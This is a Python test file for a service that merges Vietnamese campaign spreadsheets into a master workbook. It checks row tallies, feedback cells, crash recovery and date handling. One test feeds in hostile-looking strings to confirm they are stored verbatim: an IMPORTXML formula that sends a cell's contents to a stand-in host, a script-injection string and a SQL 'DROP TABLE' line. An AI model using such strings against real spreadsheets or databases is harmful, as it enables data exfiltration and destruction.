"""Consolidation through the embedded server: whole or not at all, few calls, every word and every row accounted for."""

import random
import signal
import subprocess
import sys
import time
import unicodedata

import pytest

from service.errors import NotProvisionedError

GOOD = ["1", "Ra quân dọn vệ sinh môi trường", "Ngày 05/10/2023", "Toàn tỉnh", "Cán bộ, đoàn viên", "Đường sạch", ""]
SENT = {"Số và ký hiệu": "12-KH/BCS", "Ngày ban hành": "20/9/2023", "Xác nhận gửi": True}
ENTRIES, PROGRESS, PROBLEMS, REPORTS = "Tổng hợp đăng ký", "Theo dõi tiến độ", "Cần sửa", "Tổng hợp báo cáo"


def calls(report):
    return report.read_calls, report.write_calls


def tally(report):
    rows = report.tally
    return rows.rows_in, rows.rows_out, rows.rows_rejected, rows.rows_skipped


def entry_of(office, unit_name):
    return next(row for row in office.master()[ENTRIES] if row[1] == unit_name)


def test_season_costs_four_reads_and_three_writes_then_four_reads(season_office):
    season_office.type("S-CT", "registration", [GOOD], SENT)
    season_office.type("S-CT", "report", (), {"Số và ký hiệu": "15-BC/BCS"})

    first = season_office.consolidate()
    second = season_office.consolidate()

    assert (calls(first), first.changed) == ((4, 3), True)
    assert (calls(second), second.changed, second.feedback, second.observed) == ((4, 0), False, 0, 0)


def test_new_tabs_already_say_what_the_first_consolidation_would(season_office):
    report = season_office.consolidate()

    assert (calls(report), report.feedback) == ((4, 1), 0)  # the one write is the master's
    shown = season_office.tab("S-CT", "registration").get_all_values()
    assert [cell[:15] for cell in shown[0] if cell.startswith("Chưa")] == ["Chưa có dữ liệu"]


def test_tab_without_its_feedback_column_is_named_and_not_counted(office):
    tab = office.type("S-CT", "registration", [GOOD], SENT)
    tab.delete_columns(8)

    first, again = office.consolidate(), office.consolidate()

    assert (first.feedback, again.feedback, tally(again)) == (0, 0, (1, 1, 0, 0))
    assert first.notices == again.notices
    assert ["Sở Công Thương" in str(notice) for notice in again.notices] == [True]


def test_one_changed_tab_is_answered_in_one_write_and_the_master_in_one(office):
    office.consolidate()
    office.type("S-CT", "registration", [GOOD])

    report = office.consolidate()

    assert (calls(report), report.feedback, report.observed, tally(report)) == ((4, 2), 1, 1, (1, 1, 0, 0))


def test_master_shows_a_row_with_where_it_came_from(office):
    tab = office.type("S-CT", "registration", [GOOD], SENT)
    header, _ = office.find(tab.get_all_values(), "Stt")

    office.consolidate()

    row = entry_of(office, "Sở Công Thương")
    assert row[2:9] == GOOD
    assert row[9:12] == ["05/10/2023", "05/10/2023", "rõ ngày"]
    assert row[12:] == ["", "Mở dòng", str(header + 1)]


def test_feedback_stands_beside_the_rows_and_does_not_loop(office):
    bad = ["2", "Tuyên truyền", "", "", "", "", ""]
    tab = office.type("S-CT", "registration", [GOOD, bad], SENT)
    header, _ = office.find(tab.get_all_values(), "Stt")

    first = office.consolidate()
    shown = tab.get_all_values()
    second = office.consolidate()

    assert shown[header - 1][7] == "Kiểm tra"
    assert [row[7].split(":")[0] for row in shown[header : header + 2]] == ["Hợp lệ.", "Lỗi cần sửa"]
    assert shown[0][7].startswith(
        "Đã xác nhận gửi, đủ thành phần; còn 1 dòng cần sửa, chưa được tính.\nHợp lệ: 1 dòng. Cần sửa: 1 dòng."
    )
    assert (tally(first), calls(second)) == ((2, 1, 1, 0), (4, 0))


def test_feedback_that_is_no_longer_true_is_cleared(office):
    tab = office.type("S-CT", "registration", [GOOD, ["2", "Tuyên truyền"]])
    header, _ = office.find(tab.get_all_values(), "Stt")
    office.consolidate()
    tab.update([[""] * 7], f"A{header + 2}", raw=True)

    office.consolidate()

    shown = tab.get_all_values()
    assert shown[header][7].startswith("Hợp lệ")
    assert [row[7] for row in shown[header + 1 :] if row[7]] == []


def test_feedback_does_not_loop_where_the_header_is_gone(office):
    tab = office.type("S-CT", "registration", [GOOD])
    header, _ = office.find(tab.get_all_values(), "Stt")
    office.consolidate()
    tab.update([["x"] * 7], f"A{header}", raw=True)
    office.consolidate()

    again = office.consolidate()

    assert (again.feedback, calls(again)) == (0, (4, 0))
    assert "tiêu đề" in tab.get_all_values()[0][7]


def test_feedback_written_over_by_somebody_is_put_right(office):
    tab = office.type("S-CT", "registration", [GOOD])
    header, _ = office.find(tab.get_all_values(), "Stt")
    office.consolidate()
    tab.update([["xoá"]], f"H{header + 1}", raw=True)

    report = office.consolidate()

    assert (report.feedback, report.changed) == (1, False)
    assert tab.get_all_values()[header][7].startswith("Hợp lệ")


VERBATIM = (
    '=IMPORTXML("http://vidu.example/?x="&A1;"//a")',
    "<script>alert(1)</script>",
    "'; DROP TABLE facts; --",
    "+84 912 345 678",
    "-5 người",
    "@SUM(1)",
    "0123",
    "05/10/2023",
    unicodedata.normalize("NFD", "Đối tượng là hội viên nông dân"),
    "Sạch 🌱👩‍👩‍👧 đẹp",
    "dòng một\ndòng hai",
    " hai  khoảng trắng ",
    "TRUE",
    "1e5",
)


def test_words_stand_verbatim_in_the_master(office):
    rows = [
        [str(index), f"Hoạt động {index}", "05/10/2023", text, text, text, text] for index, text in enumerate(VERBATIM)
    ]
    office.type("S-CT", "registration", rows, SENT)

    report = office.consolidate()

    entries = [row for row in office.master()[ENTRIES] if row[1] == "Sở Công Thương"]
    assert [row[2:9] for row in entries] == rows
    assert report.tally.rows_out == len(rows)
    formulas = office.master_file().worksheet(ENTRIES).get_all_values(value_render_option="FORMULA")
    own = [row for row in formulas if row[1] == "Sở Công Thương"]
    assert [row[2:9] for row in own] == rows
    assert office.consolidate().changed is False


def test_fifty_thousand_characters_stand_in_the_master(office):
    long = "ế" * 50_000
    tab = office.type("S-CT", "registration", [[*GOOD[:6], long]], SENT)
    header, _ = office.find(tab.get_all_values(), "Stt")

    report = office.consolidate()

    rows = report.tally
    assert rows.rows_in == 1 == rows.rows_out + rows.rows_rejected
    shown = [cell for sheet in office.master().values() for row in sheet for cell in row]
    assert (long in shown) == (rows.rows_out == 1)
    assert tab.get_all_values()[header][7] != ""
    assert calls(office.consolidate()) == (4, 0)


def test_two_thousand_rows_are_all_accounted_for(office):
    tab = office.tab("S-CT", "registration")
    tab.add_rows(2_000)
    rows = [[str(index), f"Hoạt động số {index}", "05/10/2023", "", "", "", ""] for index in range(1, 2_001)]
    tab.update([["", "", ""]], "A115:C115", raw=True)
    clear_signature(office, tab)
    office.type("S-CT", "registration", rows, SENT)

    report = office.consolidate()

    assert tally(report) == (2_000, 2_000, 0, 0)
    entries = [row for row in office.master()[ENTRIES] if row[1] == "Sở Công Thương"]
    assert [row[3] for row in entries] == [row[1] for row in rows]
    again = office.consolidate()
    assert (again.write_calls, again.changed) == (0, False)


def clear_signature(office, tab):
    row, column = office.find(tab.get_all_values(), "(Ký tên, đóng dấu)")
    where = {"sheetId": tab.id, "startRowIndex": row - 1, "endRowIndex": row}
    tab.spreadsheet.batch_update({"requests": [{"unmergeCells": {"range": where}}]})
    tab.update_cell(row, column, "")


def test_draft_rows_stand_in_the_master_marked(office):
    office.type("S-CT", "registration", [GOOD])

    office.consolidate()

    assert entry_of(office, "Sở Công Thương")[12] == "chưa xác nhận"
    assert office.standing("S-CT", "registration").receipt.value == "draft"


def test_partial_rows_stand_in_the_master_marked(office):
    office.type("S-CT", "registration", [GOOD], {"Xác nhận gửi": True})

    office.consolidate()

    assert entry_of(office, "Sở Công Thương")[12] != ""
    assert office.standing("S-CT", "registration").receipt.value == "partial"


def test_complete_receipt_is_on_time_and_kept_when_unticked(office):
    office.at("2023-09-29 23:00").type("S-CT", "registration", [GOOD], SENT)
    office.consolidate()
    office.at("2023-10-03 08:00").type("S-CT", "registration", labels={"Xác nhận gửi": False})
    office.consolidate()

    standing = office.standing("S-CT", "registration")

    assert (standing.receipt.value, standing.timeliness.value, standing.editing) == ("complete", "on_time", True)


def test_report_rows_stand_under_their_contents(office):
    tab = office.tab("S-CT", "report")
    header, _ = office.find(tab.get_all_values(), "Mục")
    tab.update([["Đã làm 3 việc", "3 việc"]], f"C{header + 2}", raw=True)
    office.type("S-CT", "report", labels={"Xác nhận gửi": True})

    report = office.consolidate()

    assert tally(report) == (1, 1, 0, 0)
    shown = office.master()[REPORTS]
    place = next(index for index, row in enumerate(shown) if row[1] == "Sở Công Thương")
    assert "II.2." in shown[place - 1][1]
    assert shown[place][4:6] == ["Đã làm 3 việc", "3 việc"]


MESSY = [
    GOOD,
    ["", "", "", "", "", "", ""],
    ["I", "CÔNG TÁC TUYÊN TRUYỀN", "", "", "", "", ""],
    ["2", "Tuyên truyền", "không rõ bao giờ", "", "", "", ""],
    ["", "Tổng cộng", "", "2 hoạt động", "", "", ""],
    ["...", "......", "", "", "", "", ""],
    ["#REF!", "#N/A", "", "", "", "", ""],
]


@pytest.mark.parametrize("seed", range(4))
def test_rows_in_are_rows_out_and_rejected_and_skipped(office, seed):
    chance = random.Random(seed)
    rows = [chance.choice(MESSY) for _ in range(30)]
    office.type("S-CT", "registration", rows, SENT)

    report = office.consolidate()

    came, out, rejected, skipped = tally(report)
    assert came == out + rejected + skipped == sum(any(row) and row[0] != "..." for row in rows)
    said = f"Số dòng đọc được {came} = tổng hợp {out} + cần sửa {rejected} + bỏ qua {skipped}."
    assert [row[0] for row in office.master()[PROGRESS]].count(said) == 1
    assert [row[1] for row in office.master()[ENTRIES]].count("Sở Công Thương") == out


def test_problems_link_to_their_cells(office):
    tab = office.type("S-CT", "registration", [["1", "Tuyên truyền", "không rõ bao giờ", "", "", "", ""]])
    header, _ = office.find(tab.get_all_values(), "Stt")

    office.consolidate()

    formulas = office.master_file().worksheet(PROBLEMS).get_all_values(value_render_option="FORMULA")
    found = [row for row in formulas if f"C{header + 1}" in row]
    assert len(found) == 1
    assert f"{tab.spreadsheet_id}/{tab.id}#C{header + 1}" in found[0][-1]


def test_master_keeps_its_sheets_and_leaves_nothing_behind(office):
    office.type("S-CT", "registration", [[str(n), f"Việc thứ {n}", *GOOD[2:]] for n in range(1, 21)], SENT)
    office.consolidate()
    sheets = [(sheet.id, sheet.title) for sheet in office.master_file().worksheets()]
    tab = office.tab("S-CT", "registration")
    header, _ = office.find(tab.get_all_values(), "Stt")
    tab.update([[""] * 7] * 18, f"A{header + 3}", raw=True)

    office.consolidate()

    assert [(sheet.id, sheet.title) for sheet in office.master_file().worksheets()] == sheets
    assert [row[1] for row in office.master()[ENTRIES]].count("Sở Công Thương") == 2
    assert office.master()[ENTRIES][-1][1] == "Tổng cộng: 2 dòng"


def test_missing_tab_is_named_and_the_others_go_on(office):
    office.type("S-GDDT", "registration", [GOOD], SENT)
    office.consolidate()
    kept = entry_of(office, office.campaign.unit("S-GDDT").name)
    office.type("VP-UBND", "registration", [GOOD], SENT)
    gone = office.tab("S-GDDT", "registration")
    gone.spreadsheet.del_worksheet(gone)

    report = office.consolidate()

    assert [(fault.unit, fault.form) for fault in report.faults] == [("S-GDDT", "registration")]
    assert "Sở GD&ĐT" in str(report.notices[0])
    assert entry_of(office, office.campaign.unit("S-GDDT").name)[1:] == kept[1:]
    assert entry_of(office, "Văn phòng Ủy ban nhân dân tỉnh")[2:9] == GOOD
    assert any("Sở GD&ĐT" in cell for row in office.master()["Theo dõi tiến độ"][:6] for cell in row)


def test_deleted_workbook_keeps_what_was_read_and_is_named(office):
    office.type("S-CT", "registration", [GOOD], SENT)
    office.consolidate()
    office.owner.del_spreadsheet(office.books("registration")[0])

    report = office.consolidate()

    assert {(fault.unit, fault.form) for fault in report.faults} == {
        (unit.code, "registration") for unit in office.campaign.units
    }
    assert entry_of(office, "Sở Công Thương")[2:9] == GOOD


def test_nothing_provisioned_is_said(new_office):
    with pytest.raises(NotProvisionedError):
        new_office().consolidate()


def test_deleted_master_tab_is_put_back_with_the_next_change(office):
    office.consolidate()
    book = office.master_file()
    titles = [sheet.title for sheet in book.worksheets()]
    book.del_worksheet(book.worksheet(ENTRIES))
    office.type("S-CT", "registration", [GOOD], SENT)

    report = office.consolidate()

    assert report.changed is True
    assert sorted(sheet.title for sheet in office.master_file().worksheets()) == sorted(titles)
    assert entry_of(office, "Sở Công Thương")[2:9] == GOOD


@pytest.mark.parametrize("published", [False, True])
def test_deleted_master_file_is_made_again(office, published):
    if published:
        office.consolidate()
    former = office.books("")[0]
    office.owner.del_spreadsheet(former)
    office.type("S-CT", "registration", [GOOD], SENT)

    report = office.consolidate()
    again = office.consolidate()

    assert (report.changed, calls(again)) == (True, (4, 0))
    assert office.books("")[0] != former
    assert entry_of(office, "Sở Công Thương")[2:9] == GOOD


def test_moved_columns_are_still_read(office):
    tab = office.type("S-CT", "registration", [GOOD], SENT)
    where = {"sheetId": tab.id, "dimension": "COLUMNS", "startIndex": 1, "endIndex": 2}
    tab.spreadsheet.batch_update({"requests": [{"moveDimension": {"source": where, "destinationIndex": 5}}]})

    report = office.consolidate()

    assert tally(report) == (1, 1, 0, 0)
    assert entry_of(office, "Sở Công Thương")[2:9] == GOOD


def test_renamed_tab_and_lines_inserted_above_are_still_read(office):
    tab = office.type("S-CT", "registration", [GOOD], SENT)
    header, _ = office.find(tab.get_all_values(), "Stt")
    tab.update_title("Tên mới")
    tab.insert_rows([["Ghi chú của đơn vị"], [""]], header)

    report = office.consolidate()

    assert tally(report) == (1, 1, 0, 0)
    assert entry_of(office, "Sở Công Thương")[-1] == str(header + 3)
    assert tab.get_all_values()[header + 2][7].startswith("Hợp lệ")
    assert calls(office.consolidate()) == (4, 0)


def test_nothing_is_written_again_within_a_day(office):
    office.at("2023-09-25 08:00").type("S-CT", "registration", [GOOD], SENT)
    office.consolidate()

    assert calls(office.at("2023-09-25 23:59").consolidate()) == (4, 0)
    assert calls(office.at("2023-10-02 00:01").consolidate()) == (4, 1)
    assert calls(office.at("2023-10-02 23:59").consolidate()) == (4, 0)


def test_other_campaign_runs_through_everything(reading_week):
    office = reading_week
    office.provision()
    row = ["Đọc sách cho trẻ nhỏ", "18/4", "200 euro", "Trong nhà", True]
    office.type("CH-01", "viec_lam", [row], {"Đã nhập xong": True})

    report = office.at("2031-03-30 12:00").consolidate()

    assert (calls(report), tally(report)) == ((4, 2), (1, 1, 0, 0))
    standing = office.standing("CH-01", "viec_lam")
    assert (standing.receipt.value, standing.timeliness.value) == ("complete", "on_time")
    assert "200 euro" in entry_of(office, "Chi hội Sông Xen")
    assert calls(office.consolidate()) == (4, 0)


@pytest.mark.parametrize("landed", [False, True])
def test_consolidation_cut_off_after_any_request_ends_the_same(
    office, tmp_path, provisioned, cutting, cut_off_error, landed
):
    office.type("S-CT", "registration", [GOOD, ["2", "Tuyên truyền"]], SENT)
    office.consolidate()
    office.type("S-GDDT", "registration", [GOOD], SENT)
    office.type("S-GDDT", "report", labels={"Xác nhận gửi": True})
    master = office.books("")[0]
    old = office.everything(master)
    seen = []

    # a request that landed unanswered leaves what one not carried out after it finds: each way every other request
    for after in range(landed, 20, 2):
        copy = office.copy(tmp_path / f"cut-{after}")
        try:
            copy.consolidate(cutting(after, landed=landed))
        except cut_off_error:
            seen.append((copy.everything(master), ended(copy, master)))
        else:
            break

    office.consolidate()
    new = office.everything(master)
    assert len(seen) == (3 if landed else 4)  # of four reads, three writes
    assert [half in (old, new) for half, _ in seen] == [True] * len(seen)
    assert [end for _, end in seen] == [(new, 2)] * len(seen)


def ended(office, master):
    """Run again; return the master and how many facts there are of the unit's two tabs."""
    office.consolidate()
    assert calls(office.consolidate()) == (4, 0)
    with office.workspace() as workspace:
        history = workspace.store.facts.history(office.campaign.key)
    facts = [history.observations_of("S-GDDT", form) for form in ("registration", "report")]
    return office.everything(master), sum(look.filled for looks in facts for look in looks)


CHILD = """
import sys
from pathlib import Path
from datetime import datetime
from service import wiring, workflows
from service.settings import Settings
settings = Settings(
    data_dir=Path(sys.argv[2]), campaign=sys.argv[3], database_url=sys.argv[4], rehearsal=True
)
now = datetime.fromisoformat("2023-09-25T08:00+07:00")
with wiring.open_workspace(settings, lambda: now) as workspace:
    forms = [obligation.form for obligation in workspace.campaign.obligations]
    print("ready", flush=True)
    if sys.argv[1] == "provision":
        workflows.provision(workspace, forms)
    else:
        workflows.consolidate(workspace, trigger="test")
"""


def start(office, command):
    settings = office.settings
    arguments = [command, str(settings.data_dir), settings.campaign, settings.database_url]
    child = subprocess.Popen([sys.executable, "-c", CHILD, *arguments], stdout=subprocess.PIPE)
    assert child.stdout.readline() == b"ready\n"
    return child


def killed(office, command, seconds):
    """Start a command, kill it after so long; tell whether it was killed."""
    child = start(office, command)
    time.sleep(seconds)
    child.send_signal(signal.SIGKILL)
    child.stdout.close()
    status = child.wait()
    office.forget_lease()
    return status == -signal.SIGKILL


@pytest.mark.sqlite_file
def test_two_consolidations_at_once_go_one_after_the_other(reading_week):
    office = reading_week
    office.provision()
    office.type("CH-01", "viec_lam", [["Đọc sách", "18/4", "200 euro", "Trong nhà", True]], {"Đã nhập xong": True})

    children = [start(office, "consolidate") for _ in range(2)]
    for child in children:
        child.stdout.close()
    statuses = [child.wait(timeout=60) for child in children]

    assert statuses == [0, 0]
    with office.workspace() as workspace:
        looks = workspace.store.facts.history(office.campaign.key).observations_of("CH-01", "viec_lam")
    assert len(looks) == 1
    assert calls(office.at("2023-09-25 08:00").consolidate()) == (4, 0)


@pytest.mark.parametrize("seconds", [0.05, 0.2])
def test_killed_provisioning_run_again_doubles_nothing(reading_week, seconds):
    office = reading_week
    killed(office, "provision", seconds)

    office.provision()
    report, _ = office.provision()

    assert (report.created, report.changed, report.kept) == (0, 0, 2)
    assert len(office.owner.list_spreadsheet_files()) == 3
    assert calls(office.consolidate())[0] == 4


@pytest.mark.parametrize("seconds", [0.01, 0.1])
def test_killed_consolidation_run_again_leaves_the_old_or_the_new_master(reading_week, seconds):
    office = reading_week
    office.provision()
    office.at("2023-09-25 08:00").consolidate()
    office.type("CH-01", "viec_lam", [["Đọc sách", "18/4", "200 euro", "Trong nhà", True]], {"Đã nhập xong": True})
    master = office.books("")[0]
    old = office.everything(master)

    killed(office, "consolidate", seconds)
    half = office.everything(master)
    office.consolidate()

    new = office.everything(master)
    assert half in (old, new)
    assert calls(office.consolidate()) == (4, 0)
    with office.workspace() as workspace:
        looks = workspace.store.facts.history(office.campaign.key).observations_of("CH-01", "viec_lam")
    assert [look.filled for look in looks] == [False, True]


def test_dead_holder_is_waited_for_and_taken_over(reading_week):
    """A lease that ran out belongs to whoever comes next; nobody has to clear it."""
    office = reading_week
    office.provision()
    killed(office, "consolidate", 0.05)

    report = office.consolidate()

    assert report.read_calls == 4


@pytest.mark.parametrize(
    ("pattern", "shown", "start", "end"),
    [
        ("m/d/yyyy", "10/5/2023", "2023-10-05", "2023-10-05"),
        ("d-mmm-yy", "5-thg 10-23", "2023-10-05", "2023-10-05"),
        ('"Tháng "mm', "Tháng 10", "2023-10-01", "2023-10-31"),
        ("", "05/10/2023", "2023-10-05", "2023-10-05"),
    ],
)
def test_cell_that_holds_a_date_counts_by_its_value_and_keeps_its_words(office, pattern, shown, start, end):
    office.at("2023-09-28 08:00")
    tab = office.type("S-CT", "registration", [["1", "Nạo vét mương", "", "02 thôn", "Nhân dân", "01 km", ""]])
    cell = tab.find("Nạo vét mương")
    number_format = {"type": "DATE", **({"pattern": pattern} if pattern else {})}
    value = {"userEnteredValue": {"numberValue": 45204}, "userEnteredFormat": {"numberFormat": number_format}}
    place = {"sheetId": tab.id, "rowIndex": cell.row - 1, "columnIndex": cell.col}
    fields = "userEnteredValue,userEnteredFormat.numberFormat"
    tab.spreadsheet.batch_update(
        {"requests": [{"updateCells": {"rows": [{"values": [value]}], "fields": fields, "start": place}}]}
    )

    report = office.consolidate()

    with office.workspace() as workspace:
        (contents,) = workspace.store.contents.read(office.campaign.key, "registration", ["S-CT"])
    (entry,) = contents.entries
    assert entry["values"]["thoi_gian"] == shown
    assert (entry["period"]["start"], entry["period"]["end"]) == (start, end)
    assert calls(report)[0] == 4
